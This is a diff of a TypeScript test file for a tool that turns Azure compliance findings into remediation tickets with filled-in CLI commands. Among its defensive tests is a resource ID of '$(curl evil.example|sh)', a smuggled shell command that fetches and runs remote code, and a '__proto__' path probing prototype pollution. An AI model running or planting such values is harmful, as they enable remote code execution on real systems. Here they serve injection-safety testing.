@@ -5,7 +5,10 @@ import { resourceNameOf } from "../../../shared/core/index.ts";
 import { ControlDocs, parseControlDoc } from "../../../shared/tickets/controlDocs.ts";
 import { fingerprintFromMarker, fingerprintMarker, fingerprintOf } from "../../../shared/tickets/fingerprint.ts";
 import { describeChanges, snapshotOf } from "../../../shared/tickets/snapshot.ts";
+import { renderMarkdown } from "../../../shared/tickets/text/index.ts";
 import { STORAGE_ID, SUBSCRIPTION, tlsFinding } from "./samples.ts";
+
+const markdown = (content: { body: Parameters<typeof renderMarkdown>[0] }) => renderMarkdown(content.body, 65_536);
 
 const PAGE = `# storage.min-tls
 
@@ -63,19 +66,19 @@ describe("ticket content", () => {
 
   it("quotes the control page's sections with placeholders filled, and shows evidence, classification, owner and the doc link", () => {
     const content = buildTicketContent({ finding: tlsFinding(), owner: "team-data@contoso.com" }, parseControlDoc(PAGE), { docsBaseUrl: "https://github.com/contoso/guard/blob/main/docs/controls/" });
-    const { body } = content;
+    const body = markdown(content);
 
     expect(content.fingerprint).toBe(fingerprintOf("storage.min-tls", STORAGE_ID));
-    expect(body).toContain("Clients can still negotiate TLS 1.0 with appdata01, which is broken.");
+    expect(body).toContain("Clients can still negotiate TLS 1.0 with `appdata01`, which is broken.");
     expect(body).toContain(`az storage account update --ids ${STORAGE_ID} --min-tls-version TLS1_2`);
     expect(body).toContain("## not a heading");
-    expect(body).toContain("stop connecting to app.");
+    expect(body).toContain("stop connecting to `app`.");
     expect(body).not.toContain("elsewhere");
-    expect(body).toContain('| `properties.minimumTlsVersion` | `"TLS1_0"` | TLS1_2 or TLS1_3 |');
+    expect(body).toContain('| `properties.minimumTlsVersion` | `"TLS1_0"` | TLS1\\_2 or TLS1\\_3 |');
     expect(body).toContain("| Classification | confidential |");
-    expect(body).toContain("| Owner | team-data@contoso.com |");
+    expect(body).toContain("| Owner | team-data@\u200Dcontoso.com |");
     expect(body).toContain("| Why a ticket | the policy asks for a ticket (mode ticket) |");
-    expect(body).toContain("[storage.min-tls](https://github.com/contoso/guard/blob/main/docs/controls/storage.min-tls.md)");
+    expect(body).toContain("[storage.min-tls](<https://github.com/contoso/guard/blob/main/docs/controls/storage.min-tls.md>)");
     expect(body).toContain("MCSB DP-3");
     expect(body).toContain(fingerprintMarker(content.fingerprint));
     expect(body.indexOf("## What is wrong")).toBeLessThan(body.indexOf("## Evidence"));
@@ -83,10 +86,13 @@ describe("ticket content", () => {
   });
 
   it("falls back gracefully without a page: generic steps from the evidence, a caution, a relative doc link, an unknown owner", () => {
-    const { body, docUrl } = buildTicketContent({ finding: tlsFinding({ evidence: { path: "properties.minimumTlsVersion", actual: undefined, expected: "TLS1_2 or TLS1_3" } }) }, {});
-    expect(docUrl).toBe("docs/controls/storage.min-tls.md");
-    expect(body).toContain("| `properties.minimumTlsVersion` | `absent` | TLS1_2 or TLS1_3 |");
+    const content = buildTicketContent({ finding: tlsFinding({ evidence: { path: "properties.minimumTlsVersion", actual: undefined, expected: "TLS1_2 or TLS1_3" } }) }, {});
+    const body = markdown(content);
+    expect(content.docUrl).toBe("docs/controls/storage.min-tls.md");
+    expect(body).toContain("storage.min-tls (`docs/controls/storage.min-tls.md`) · Well-Architected SE:07");
+    expect(body).toContain("| `properties.minimumTlsVersion` | `absent` | TLS1\\_2 or TLS1\\_3 |");
     expect(body).toContain(`az resource show --ids '${STORAGE_ID}' --query 'properties.minimumTlsVersion'`);
+    expect(body).toContain(`az resource update --ids '${STORAGE_ID}' --set 'properties.minimumTlsVersion=<value>'`);
     expect(body).toContain('"minimumTlsVersion": "<TLS1_2 or TLS1_3>"');
     expect(body).toContain("The control's page does not say. Try the change on a non-production copy first.");
     expect(body).toContain("## What the fix does and can break");
@@ -106,27 +112,54 @@ describe("ticket content", () => {
         { path: "properties.encryption.keyvaultproperties", before: undefined, after: { keyname: "cmk", keyvaulturi: "https://kv.vault.azure.net/" } },
       ],
     };
-    const { body } = buildTicketContent({ finding, fix, reason: "the blast-radius breaker is open", exception: { kind: "drift", reason: "reverted 3 times", since: "2026-02-01T00:00:00Z" } }, {});
+    const body = markdown(
+      buildTicketContent({ finding, fix, reason: "the blast-radius breaker is open", exception: { kind: "drift", reason: "reverted 3 times", since: "2026-02-01T00:00:00Z" } }, {}),
+    );
     expect(body).toContain(
-      `az resource update --ids '${STORAGE_ID}' \\\n  --set properties.encryption.keySource='Microsoft.Keyvault' \\\n  --set properties.encryption.keyvaultproperties='{"keyname":"cmk","keyvaulturi":"https://kv.vault.azure.net/"}'`,
+      `az resource update --ids '${STORAGE_ID}' \\\n  --set 'properties.encryption.keySource=Microsoft.Keyvault' \\\n  --set 'properties.encryption.keyvaultproperties={"keyname":"cmk","keyvaulturi":"https://kv.vault.azure.net/"}'`,
     );
     expect(body).toContain('"keySource": "Microsoft.Keyvault"');
     expect(body).toContain("| Why a ticket | the blast-radius breaker is open |");
     expect(body).toContain("| Automatic fixing stopped | drift: reverted 3 times (since 2026-02-01T00:00:00Z) |");
   });
 
+  it("writes a planned change whose path names __proto__ into the template as a name, reaching no prototype", () => {
+    const fix = {
+      resourceId: STORAGE_ID,
+      resourceType: "Microsoft.Storage/storageAccounts",
+      controlId: "storage.min-tls",
+      safety: "safe" as const,
+      summary: "x",
+      changes: [{ path: "__proto__.polluted", before: undefined, after: "yes" }],
+    };
+    const body = markdown(buildTicketContent({ finding: tlsFinding(), fix }, {}));
+    expect(body).toContain('"__proto__": {\n    "polluted": "yes"\n  }');
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+  });
+
   it("fills the placeholders control pages use, only with the resource's own names", () => {
-    expect(fillPlaceholders("az x --ids <resource-id> -g <rg> -n <account> --subscription $SUBSCRIPTION_ID --vault <vault> --identity <identity-resource-id>", tlsFinding())).toBe(
-      `az x --ids ${STORAGE_ID} -g app -n appdata01 --subscription ${SUBSCRIPTION} --vault <vault> --identity <identity-resource-id>`,
+    const fenced = (text: string) => `\`\`\`sh\n${text}\n\`\`\``;
+    expect(fillPlaceholders(fenced("az x --ids <resource-id> -g <rg> -n <account> --subscription $SUBSCRIPTION_ID --vault <vault> --identity <identity-resource-id>"), tlsFinding())).toBe(
+      fenced(`az x --ids ${STORAGE_ID} -g app -n appdata01 --subscription ${SUBSCRIPTION} --vault <vault> --identity <identity-resource-id>`),
     );
     const tde = `/subscriptions/${SUBSCRIPTION}/resourceGroups/db/providers/Microsoft.Sql/servers/sql01/databases/orders/transparentDataEncryption/current`;
-    expect(fillPlaceholders("az sql db tde set --resource-group <rg> --server <server> --database <database>", tlsFinding({ resourceId: tde }))).toBe(
-      "az sql db tde set --resource-group db --server sql01 --database orders",
+    expect(fillPlaceholders("Run `az sql db tde set --resource-group <rg> --server <server> --database <database>`.", tlsFinding({ resourceId: tde }))).toBe(
+      "Run `az sql db tde set --resource-group db --server sql01 --database orders`.",
     );
     const vault = `/subscriptions/${SUBSCRIPTION}/resourceGroups/sec/providers/Microsoft.KeyVault/vaults/kv01`;
-    expect(fillPlaceholders("--resource <vault-resource-id> --workspace <workspace-resource-id>", tlsFinding({ resourceId: vault }))).toBe(`--resource ${vault} --workspace <workspace-resource-id>`);
+    expect(fillPlaceholders(fenced("--resource <vault-resource-id> --workspace <workspace-resource-id>"), tlsFinding({ resourceId: vault }))).toBe(
+      fenced(`--resource ${vault} --workspace <workspace-resource-id>`),
+    );
     const topic = `/subscriptions/${SUBSCRIPTION}/resourceGroups/ev/providers/Microsoft.EventGrid/domains/d1`;
-    expect(fillPlaceholders("--ids <topic-or-domain-resource-id>", tlsFinding({ resourceId: topic }))).toBe(`--ids ${topic}`);
+    expect(fillPlaceholders(fenced("--ids {resourceId}"), tlsFinding({ resourceId: topic }))).toBe(fenced(`--ids ${topic}`));
+    expect(fillPlaceholders(fenced("--ids <topic-or-domain-resource-id>"), tlsFinding({ resourceId: topic }))).toBe(fenced(`--ids ${topic}`));
+  });
+
+  it("puts a value in a sentence as a code span, and never a value that is not a plain word", () => {
+    expect(fillPlaceholders("The group <rg> holds $RESOURCE_GROUP.", tlsFinding())).toBe("The group `app` holds `app`.");
+    const odd = `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg(1)/providers/Microsoft.Storage/storageAccounts/appdata01`;
+    expect(fillPlaceholders("```sh\naz x -g <rg> -n <account>\n```", tlsFinding({ resourceId: odd }))).toBe("```sh\naz x -g <rg> -n appdata01\n```");
+    expect(fillPlaceholders("```sh\naz x --ids <resource-id>\n```", tlsFinding({ resourceId: "$(curl evil.example|sh)" }))).toBe("```sh\naz x --ids <resource-id>\n```");
   });
 
   it("quotes every control page of the catalog: what goes wrong, the steps by hand with this resource's names, what the fix does", async () => {
@@ -137,7 +170,7 @@ describe("ticket content", () => {
       expect(doc.howToFixByHand, control.id).toMatch(/### Azure CLI[\s\S]*```[\s\S]*### Bicep/);
       expect(doc.whatTheFixCanBreak, control.id).toBeTruthy();
     }
-    const { body } = buildTicketContent({ finding: tlsFinding() }, await docs.get("storage.min-tls"));
+    const body = markdown(buildTicketContent({ finding: tlsFinding() }, await docs.get("storage.min-tls")));
     expect(body).toContain("az storage account update --resource-group app --name appdata01 --min-tls-version TLS1_2");
     expect(body).toContain("### Bicep");
   });
@@ -164,6 +197,8 @@ describe("what changed", () => {
     const before = snapshotOf({ finding: tlsFinding(), owner: "a@contoso.com" });
     expect(describeChanges(before, snapshotOf({ finding: tlsFinding(), owner: "a@contoso.com" }))).toEqual([]);
     const after = snapshotOf({ finding: tlsFinding({ evidence: { path: "properties.minimumTlsVersion", actual: "TLS1_1", expected: "TLS1_2 or TLS1_3" }, classification: "highly-confidential" }) });
-    expect(describeChanges(before, after)).toEqual(["- Classification: `confidential` → `highly-confidential`", "- Owner: `a@contoso.com` → `none`", '- Actual value: `"TLS1_0"` → `"TLS1_1"`']);
+    expect(renderMarkdown([{ list: describeChanges(before, after) }], 65_536)).toBe(
+      ["- Classification: `confidential` → `highly-confidential`", "- Owner: `a@contoso.com` → `none`", '- Actual value: `"TLS1_0"` → `"TLS1_1"`'].join("\n"),
+    );
   });
 });
